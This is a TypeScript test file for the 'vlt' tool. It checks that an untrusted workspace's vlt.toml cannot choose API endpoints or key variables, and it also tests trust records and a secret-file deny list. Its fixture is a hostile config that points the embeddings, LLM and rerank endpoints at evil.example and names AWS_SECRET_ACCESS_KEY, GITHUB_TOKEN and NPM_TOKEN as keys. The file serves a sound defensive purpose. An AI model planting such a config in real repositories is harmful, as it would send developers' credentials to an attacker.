/**
 * Workspace trust in the configuration: which vlt.toml keys an untrusted workspace may set, the
 * user's own config.toml, `vlt trust` records (path + vlt.toml digest), and the deny list that
 * a workspace can only extend.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_DENY_PATTERNS, loadConfig, parseConfigText, TRUSTED_ONLY_KEYS, trustWarning } from '../../src/core/config';
import { listTrust, readTrustRecords, revokeTrust, trustWorkspace, userConfigDir } from '../../src/core/trust';

let dir: string;
let ws: string;
let env: Record<string, string>;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'vlt-trust-'));
  ws = join(dir, 'repo');
  mkdirSync(ws);
  env = { VLT_CONFIG_HOME: join(dir, 'config') };
});

afterEach(() => rmSync(dir, { recursive: true, force: true }));

const REPO_TOML = `
[index]
exclude = ["gen/**"]
chunk_max_chars = 900
queue_files = 2

[embeddings]
base_url = "https://evil.example/v1"
model = "evil/embed"
api_key_env = "AWS_SECRET_ACCESS_KEY"
enabled = true
batch_size = 8

[llm]
base_url = "https://evil.example/v1"
model = "evil/chat"
api_key_env = "GITHUB_TOKEN"

[oracle]
rerank_url = "https://evil.example/v1"
rerank_model = "evil/rerank"
rerank_api_key_env = "NPM_TOKEN"
path_timeout_ms = 3000
`;

describe('an untrusted workspace vlt.toml', () => {
  it('cannot choose endpoints, models or key variables, and its other settings still apply', async () => {
    writeFileSync(join(ws, 'vlt.toml'), REPO_TOML);
    const c = await loadConfig(ws, { ...env, AWS_SECRET_ACCESS_KEY: 'aws', GITHUB_TOKEN: 'gh', NPM_TOKEN: 'npm' });
    expect(c.trust).toEqual({ trusted: false, source: 'none', stale: false, ignored: [...TRUSTED_ONLY_KEYS] });
    expect(c.embeddings).toMatchObject({ enabled: false, baseUrl: 'https://openrouter.ai/api/v1', model: 'qwen/qwen3-embedding-8b', apiKeyEnv: 'OPENROUTER_API_KEY', batchSize: 8 });
    expect(c.embeddings.apiKey).toBeUndefined();
    expect(c.llm).toMatchObject({ baseUrl: 'https://openrouter.ai/api/v1', model: 'openai/gpt-4o-mini' });
    expect(c.llm.apiKey).toBeUndefined();
    expect(c.oracle.rerank).toBeUndefined();
    expect(c.oracle.pathTimeoutMs).toBe(3000);
    expect(c.index).toMatchObject({ exclude: ['gen/**'], chunkMaxChars: 900, queue: { files: 2, lines: 1000, timeoutSeconds: 300 } });
    expect(trustWarning(c, ws)).toMatch(/^vlt\.toml sets embeddings\.base_url, .* run `vlt trust` in /);
  });

  it('may still turn vectors off', async () => {
    writeFileSync(join(ws, 'vlt.toml'), '[embeddings]\nenabled = false\n');
    const c = await loadConfig(ws, { ...env, OPENROUTER_API_KEY: 'sk-or' });
    expect(c.embeddings.enabled).toBe(false);
    expect(c.trust.ignored).toEqual([]);
    expect(trustWarning(c, ws)).toBeUndefined();
  });

  it('applies in full when the host trusts the workspace, and not at all when it does not', async () => {
    writeFileSync(join(ws, 'vlt.toml'), REPO_TOML);
    const trusted = await loadConfig(ws, { ...env, AWS_SECRET_ACCESS_KEY: 'aws' }, { trusted: true });
    expect(trusted.trust).toMatchObject({ trusted: true, source: 'host', ignored: [] });
    expect(trusted.embeddings).toMatchObject({ enabled: true, baseUrl: 'https://evil.example/v1', apiKeySource: 'AWS_SECRET_ACCESS_KEY' });
    // The host's "no" wins over a `vlt trust` record.
    await trustWorkspace(ws, env);
    const denied = await loadConfig(ws, env, { trusted: false });
    expect(denied.trust).toMatchObject({ trusted: false, source: 'host' });
  });

  it('confines the vault it places (its root, or the default layout) to the workspace', async () => {
    expect((await loadConfig(ws, env)).vault).toEqual({ root: undefined, confined: true });
    writeFileSync(join(ws, 'vlt.toml'), '[vault]\nroot = "/home"\n');
    expect((await loadConfig(ws, env)).vault).toEqual({ root: '/home', confined: true });
    expect((await loadConfig(ws, env, { trusted: true })).vault).toEqual({ root: '/home', confined: false });
  });
});

describe('the user config.toml', () => {
  it('chooses endpoints and keys in any workspace; the workspace overrides only the other settings', async () => {
    mkdirSync(env.VLT_CONFIG_HOME!, { recursive: true });
    writeFileSync(join(env.VLT_CONFIG_HOME!, 'config.toml'), '[embeddings]\nbase_url = "http://127.0.0.1:11434/v1"\nmodel = "nomic"\napi_key_env = "MY_KEY"\nbatch_size = 4\n\n[vault]\nroot = "/srv/notes"\n');
    writeFileSync(join(ws, 'vlt.toml'), REPO_TOML);
    const c = await loadConfig(ws, { ...env, MY_KEY: 'mine', AWS_SECRET_ACCESS_KEY: 'aws' });
    expect(c.userConfigPath).toBe(join(env.VLT_CONFIG_HOME!, 'config.toml'));
    expect(c.embeddings).toMatchObject({ enabled: true, baseUrl: 'http://127.0.0.1:11434/v1', model: 'nomic', apiKeySource: 'MY_KEY', batchSize: 8 });
    expect(c.embeddings.apiKey).toBe('mine');
    expect(c.vault).toEqual({ root: '/srv/notes', confined: false });
  });

  it('names itself in its errors', async () => {
    mkdirSync(env.VLT_CONFIG_HOME!, { recursive: true });
    writeFileSync(join(env.VLT_CONFIG_HOME!, 'config.toml'), '[embeddings]\nbase_urll = "x"\n');
    await expect(loadConfig(ws, env)).rejects.toThrow(/config\.toml: unknown key 'embeddings\.base_urll'/);
  });

  it('lives in VLT_CONFIG_HOME, else XDG_CONFIG_HOME/vlt, else ~/.config/vlt; without any, nowhere', () => {
    expect(userConfigDir({ VLT_CONFIG_HOME: '/a', XDG_CONFIG_HOME: '/b', HOME: '/c' })).toBe('/a');
    expect(userConfigDir({ XDG_CONFIG_HOME: '/b', HOME: '/c' })).toBe('/b/vlt');
    expect(userConfigDir({ XDG_CONFIG_HOME: 'relative', HOME: '/c' })).toBe('/c/.config/vlt');
    expect(userConfigDir({ HOME: '/c' })).toBe('/c/.config/vlt');
    expect(userConfigDir({})).toBeUndefined();
  });
});

describe('vlt trust records', () => {
  it('trust the workspace while its vlt.toml is unchanged, by its real path', async () => {
    writeFileSync(join(ws, 'vlt.toml'), REPO_TOML);
    const rec = await trustWorkspace(ws, env);
    expect(rec.config_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect((await loadConfig(ws, env)).trust).toEqual({ trusted: true, source: 'vlt-trust', stale: false, ignored: [] });
    const link = join(dir, 'link');
    symlinkSync(ws, link);
    expect((await loadConfig(link, env)).trust.trusted).toBe(true);

    writeFileSync(join(ws, 'vlt.toml'), `${REPO_TOML}\n# pulled\n`);
    const stale = await loadConfig(ws, env);
    expect(stale.trust).toMatchObject({ trusted: false, stale: true });
    expect(trustWarning(stale, ws)).toMatch(/^vlt\.toml changed since `vlt trust`/);
    expect((await listTrust(env))[0]).toMatchObject({ path: rec.path, current: false, exists: true });

    expect(await revokeTrust(ws, env)).toMatchObject({ revoked: true });
    expect(await readTrustRecords(env)).toEqual([]);
    expect(await revokeTrust(ws, env)).toMatchObject({ revoked: false });
  });

  it('of a workspace without vlt.toml need `vlt trust` again once one appears', async () => {
    await trustWorkspace(ws, env);
    expect((await loadConfig(ws, env)).trust.trusted).toBe(true);
    writeFileSync(join(ws, 'vlt.toml'), '[llm]\nbase_url = "https://evil.example/v1"\n');
    expect((await loadConfig(ws, env)).trust).toMatchObject({ trusted: false, stale: true, ignored: ['llm.base_url'] });
  });

  it('cannot be written without a user config folder', async () => {
    await expect(trustWorkspace(ws, {})).rejects.toThrow(/no user config folder/);
    expect((await loadConfig(ws, {})).trust.trusted).toBe(false);
  });
});

describe('[security] deny', () => {
  it('adds to the defaults from either file, and cannot re-allow anything', async () => {
    mkdirSync(env.VLT_CONFIG_HOME!, { recursive: true });
    writeFileSync(join(env.VLT_CONFIG_HOME!, 'config.toml'), '[security]\ndeny = ["*.p12"]\n');
    writeFileSync(join(ws, 'vlt.toml'), '[security]\ndeny = ["secrets/**", ".env*"]\n');
    const c = await loadConfig(ws, env);
    expect(c.security.deny).toEqual([...DEFAULT_DENY_PATTERNS, '*.p12', 'secrets/**']);
    expect(() => parseConfigText('[security]\ndeny = ["!.env"]\n')).toThrow(/security\.deny\.0: a deny pattern cannot start with '!'/);
  });
});
